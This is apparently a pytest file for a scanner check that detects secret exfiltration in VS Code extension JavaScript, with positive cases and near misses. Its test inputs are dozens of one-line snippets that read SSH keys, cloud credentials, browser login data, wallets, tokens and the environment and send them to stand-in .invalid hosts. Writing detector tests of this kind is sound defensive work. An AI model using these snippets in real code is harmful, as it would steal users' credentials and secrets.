"""Secrets that are sent. Payloads are inert: hosts end in .invalid, and nothing runs."""

import pytest

from tests.flows import findings_of, worst
from vscan.model import Severity
from vscan.providers.offline.checks.secret_exfiltration import CHECK

RULE = "secret-exfiltration"
START = """
const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const vscode = require("vscode"), cp = require("child_process"), home = os.homedir();
const url = "https://a.invalid/s", post = (body) => fetch(url, { method: "POST", body });
"""


@pytest.mark.parametrize(
    "source",
    [
        "post(fs.readFileSync(home + '/.ssh/id_rsa', 'utf8'));",
        "post(fs.readFileSync(path.join(home, '.aws', 'credentials')).toString('base64'));",
        "fs.readFile(`${home}/.npmrc`, (e, d) => { const r = https.request(url); r.end(d); });",
        (
            "const all = {}; all.a = fs.readFileSync(home + '/.git-credentials');"
            " post(JSON.stringify(all));"
        ),
        "for (const f of ['.netrc', '.pypirc']) post(fs.readFileSync(path.join(home, f)));",
        "const read = (f) => fs.readFileSync(path.join(home, f)); post(read('.ssh/id_ed25519'));",
        "fs.promises.readFile(home + '/.kube/config').then((d) => require('axios').post(url, d));",
        "new WebSocket('wss://a.invalid').send(fs.readFileSync(home + '/.docker/config.json'));",
        "require('net').connect(1, 'a.invalid').write(fs.readFileSync('/etc/shadow'));",
        "fs.createReadStream(home + '/.gnupg/secring.gpg').pipe(https.request(url));",
        "post(fs.readFileSync(home + '/.config/google-chrome/Default/Login Data'));",
        "post(fs.readFileSync(atob('L2V0Yy9zaGFkb3c=')));",
        "require('dns').lookup(fs.readFileSync(home + '/.vault-token', 'hex') + '.a.invalid', f);",
        "cp.exec('gh auth token', (e, out) => post(out));",
        "post(cp.execSync('security find-generic-password -wa a').toString());",
        "vscode.authentication.getSession('github', []).then((s) => post(s.accessToken));",
        "post(JSON.stringify([process.env.NPM_TOKEN, process.env.AWS_SECRET_ACCESS_KEY]));",
        "https.get(url + '?k=' + fs.readFileSync(home + '/.pgpass').toString('hex'));",
        "vscode.env.openExternal(vscode.Uri.parse(url + fs.readFileSync(home + '/.netrc')));",
        "vscode.env.openExternal(url + fs.readFileSync(home + '/.netrc'));",
        (
            "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/r')"
            ".then((r) => r.text()).then((t) => post(t));"
        ),
        "cp.exec('code tunnel --accept-server-license-terms', (e, out) => post(out));",
        (
            "const form = new FormData(); form.append('f', fs.createReadStream(home + '/.npmrc'));"
            " post(form);"
        ),
    ],
)
def test_a_secret_that_is_sent_is_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) >= Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "post(JSON.stringify(process.env));",
        "post(JSON.stringify({ ...process.env }));",
        "const { env } = process; post(Buffer.from(JSON.stringify(env)).toString('base64'));",
        "post(Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&'));",
        "const all = Object.assign({}, process.env); post(JSON.stringify(all));",
    ],
)
def test_the_whole_environment_that_is_sent_is_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), "environment-exfiltration") >= Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "fetch(url, { headers: { Authorization: 'Bearer ' + process.env.API_TOKEN } });",
        "post(process.env.API_TOKEN);",
        "post(process.env.LANG);",
        "show(fs.readFileSync(home + '/.ssh/id_rsa'));",
        "fs.readFileSync(home + '/.ssh/id_rsa'); post('x');",
        "post(fs.readFileSync(home + '/.ssh/config', 'utf8'));",
        "post(fs.readFileSync(home + '/.ssh/id_rsa.pub', 'utf8'));",
        "post(String(fs.existsSync(home + '/.aws/credentials')));",
        "post(fs.readFileSync(home + '/notes.txt'));",
        "cp.spawn('server', [], { env: process.env }); post('started');",
        "const { PATH } = process.env; post(PATH);",
        (
            "vscode.authentication.getSession('github', []).then((s) =>"
            " fetch('https://api.github.com/user', { headers: { Authorization: s.accessToken } }));"
        ),
        "post(fs.readFileSync(home + '/.aws/credentials').length);",
        "// post(fs.readFileSync(home + '/.ssh/id_rsa'));",
        # Where credentials are fetched.
        (
            "const e = process.env; fetch(e.AWS_CONTAINER_CREDENTIALS_FULL_URI ??"
            " 'http://x.invalid' + e.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI);"
        ),
        "cp.spawn('ssh', ['-i', home + '/.ssh/id_rsa', host]); post('connected');",
        # What lies beside secrets, and is none.
        "post(fs.readFileSync(home + '/.config/solana/cli/config.yml'));",
        "post(fs.readFileSync(home + '/.config/BraveSoftware/Brave-Browser/DevToolsActivePort'));",
        "post(fs.readFileSync(home + '/.config/gcloud/configurations/config_default'));",
        "post(fs.readFileSync(home + '/.nuget/packages/a/1.0.0/a.nuspec'));",
        "post(fs.readFileSync(home + '/.gnupg/gpg-agent.conf'));",
        "post(fs.readFileSync(home + '/.azure/config'));",
        # The server that the user has set.
        (
            "const host = vscode.workspace.getConfiguration('github-enterprise').get('uri');"
            " vscode.authentication.getSession('github-enterprise', []).then((s) =>"
            " fetch(new URL('/api/v3/user', host), { headers: { a: s.accessToken } }));"
        ),
        "fetch('http://127.0.0.1:9/j', { body: fs.readFileSync(home + '/.npmrc') });",
        (
            "const rc = fs.readFileSync(home + '/.npmrc', 'utf8');"
            " const to = rc.match(/registry=(.+)/)[1], t = rc.match(/_authToken=(.+)/)[1];"
            " https.get(to, { headers: { authorization: t } });"
        ),
    ],
)
def test_a_near_miss_is_not_found(source: str) -> None:
    findings = findings_of(CHECK, START + source)
    assert worst(findings, RULE) < Severity.MEDIUM
    assert worst(findings, "environment-exfiltration") < Severity.MEDIUM


def test_the_message_has_the_source_and_both_lines() -> None:
    source = """\
const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');
const text = key.toString('base64');

fetch('https://a.invalid/s', { method: 'POST', body: text });
"""
    (finding,) = findings_of(CHECK, source)
    assert "SSH keys (~/.ssh/id_rsa) (line 1)" in finding.message
    assert "sends it (line 4)" in finding.message
    assert finding.line == 4


@pytest.mark.parametrize(
    "source",
    [
        # The address is in the same credentials.
        (
            "const c = JSON.parse(fs.readFileSync(home + '/.config/gcloud/credentials'));"
            " client.request({ url: c.token_uri, method: 'POST', data: c.refresh_token });"
        ),
        "const { env } = process; post((env.A_SECRET || 'abc') + (env.B_SECRET || 'd'));",
        "const out = cp.execSync('code --version', { env: { ...process.env } }); post(out);",
        "post(process.env.A_PUBLIC_KEY + process.env.B_PUBLIC_KEY);",
    ],
)
def test_what_is_no_secret_of_the_user_is_not_found(source: str) -> None:
    assert findings_of(CHECK, START + source) == []


@pytest.mark.parametrize(
    "path",
    [
        "/.config/solana/id.json",
        "/.config/solana/' + name + '",
        "/.config/google-chrome/Default/Login Data",
        "/.config/google-chrome/' + profile + '",
        "/.azure/msal_token_cache.json",
        "/.azure/' + name + '",
        "/.config/gcloud/credentials.db",
        "/.nuget/NuGet/NuGet.Config",
        "/.gnupg/private-keys-v1.d/a.key",
    ],
)
def test_what_lies_in_a_folder_of_secrets_is_one(path: str) -> None:
    source = f"post(fs.readFileSync(home + '{path}'));"
    assert worst(findings_of(CHECK, START + source), RULE) == Severity.CRITICAL


@pytest.mark.parametrize(
    "host",
    ["https://github.com.a.invalid/s", "https://a.invalid/github.com", "https://a@b.invalid"],
)
def test_a_session_goes_to_its_service_by_the_name_of_the_host(host: str) -> None:
    send = f"fetch('{host}', {{ method: 'POST', body: s.accessToken }})"
    source = f"vscode.authentication.getSession('github', []).then((s) => {send});"
    assert worst(findings_of(CHECK, START + source), RULE) == Severity.CRITICAL


@pytest.mark.parametrize(
    "here",
    [
        "net.connect('/tmp/editor.sock')",
        "net.connect({ path: os.tmpdir() + '/editor.sock' }).on('error', () => {})",
        "net.createConnection({ port: 9229 })",
        "net.connect(9229, 'localhost').setEncoding('utf8')",
    ],
)
def test_a_socket_that_is_made_for_this_machine_sends_nothing(here: str) -> None:
    write = "s.write(JSON.stringify(process.env));"
    assert findings_of(CHECK, f"{START}const s = {here}; {write}") == []
    away = f"{START}const s = net.connect(443, 'a.invalid').on('error', () => {{}}); {write}"
    assert findings_of(CHECK, away)


CLIENT = """
const { A_TOKEN, B_SECRET } = process.env;
class Client { constructor() { this._options = { a: A_TOKEN, b: B_SECRET }; } }
"""


def test_a_field_of_a_class_is_none_of_the_objects_that_a_function_makes() -> None:
    """Two libraries in one bundle have fields of the same name."""
    request = "function Request(o) { this._options = o; }\n"
    run = ".prototype.run = function () { fetch(url, { body: JSON.stringify(this._options) }); };"
    assert findings_of(CHECK, f"{START}{CLIENT}{request}Request{run}") == []
    assert worst(findings_of(CHECK, f"{START}{CLIENT}Client{run}"), RULE) == Severity.CRITICAL
    heir = CLIENT.replace("class Client {", "class Client extends Request { ")
    sent = findings_of(CHECK, f"{START}{heir}{request}Request{run}")
    assert worst(sent, RULE) == Severity.CRITICAL


CONNECTED = "const socket = new net.Socket(); const all = JSON.stringify(process.env);"


@pytest.mark.parametrize("host", ["127.0.0.1", "::1", "localhost"])
def test_a_socket_that_is_connected_to_this_machine_sends_nothing(host: str) -> None:
    source = f"{CONNECTED}socket.connect(port, '{host}', () => socket.write(all));"
    assert findings_of(CHECK, START + source) == []


@pytest.mark.parametrize(
    "more",
    ["socket.connect(443, host);", "socket.connect(443, 'a.invalid');", "socket.connect(o);"],
)
def test_a_socket_that_may_be_connected_elsewhere_sends(more: str) -> None:
    rule = "environment-exfiltration"
    for here in ("", "socket.connect(port, '127.0.0.1');"):
        source = f"{CONNECTED}{here}{more}socket.write(all);"
        assert worst(findings_of(CHECK, START + source), rule) == Severity.CRITICAL


READ = "const read = (name) => process.env[name]?.trim();"


@pytest.mark.parametrize(
    "source",
    [
        "post(process.env.GITHUB_TOKEN || process.env.GH_TOKEN);",
        "post(process.env.A_API_KEY ?? process.env.B_API_KEY ?? process.env.C_API_KEY);",
        "post(old ? process.env.A_API_KEY : process.env.B_API_KEY);",
        READ + "const a = read('A_API_KEY'), b = read('B_API_KEY'); post(a || b || undefined);",
    ],
)
def test_one_of_two_variables_is_one_secret(source: str) -> None:
    assert findings_of(CHECK, START + source) == []


@pytest.mark.parametrize(
    "source",
    [
        "post((process.env.A_TOKEN || process.env.B_TOKEN) + process.env.C_TOKEN);",
        "post(`${process.env.A_TOKEN || ''} ${process.env.B_TOKEN || ''}`);",
        "post(process.env.A_TOKEN && process.env.A_TOKEN + process.env.B_TOKEN);",
        "post((process.env.A_TOKEN + process.env.B_TOKEN) || process.env.C_TOKEN);",
        "post(JSON.stringify({ a: process.env.A_TOKEN ?? '', b: process.env.B_TOKEN ?? '' }));",
        READ + "post(['A_TOKEN', 'B_TOKEN'].map((each) => read(each) || '').join());",
        "post(process.env.A_TOKEN || fs.readFileSync(home + '/.ssh/id_rsa', 'utf8'));",
    ],
)
def test_several_variables_are_more_than_one_secret(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) == Severity.CRITICAL


def test_the_keys_of_a_client_that_makes_addresses_are_not_what_is_sent() -> None:
    """Either of two variables holds the key of a service; what it is put into is not known."""
    source = """
    const read = (name) => process.env[name]?.trim();
    const either = () => { const a = read("ONE_API_KEY"), b = read("TWO_API_KEY"); return a || b; };
    class Client {
      constructor(key) { this.key = key || either(); }
      request(path) { return this.call(make(path, this.key).toString(), {}); }
      call(address, init) { return fetch(address, init); }
    }
    new Client().request(path);
    """
    assert findings_of(CHECK, source) == []
    sent = "fetch(`https://a.invalid/?${process.env.ONE_API_KEY}${process.env.TWO_API_KEY}`)"
    assert len(findings_of(CHECK, sent)) == 1


def test_a_long_evaluation_of_what_is_read_keeps_that_it_is_read() -> None:
    """The steps of one evaluation are bounded, and arguments may take all of them."""
    source = """
        const L = ['/.config/Exodus/exodus.wallet', '/.electrum/wallets', '/.config/b/wallet.dat'];
        const o = L.map((x) => home + x).filter(fs.existsSync).flatMap((d) =>
          fs.statSync(d).isDirectory()
            ? fs.readdirSync(d).map((f) => [d + '/' + f, fs.readFileSync(d + '/' + f, 'base64')])
            : [[d, fs.readFileSync(d, 'base64')]]);
        if (o.length) post(JSON.stringify(o));
    """
    assert worst(findings_of(CHECK, START + source), RULE) == Severity.CRITICAL
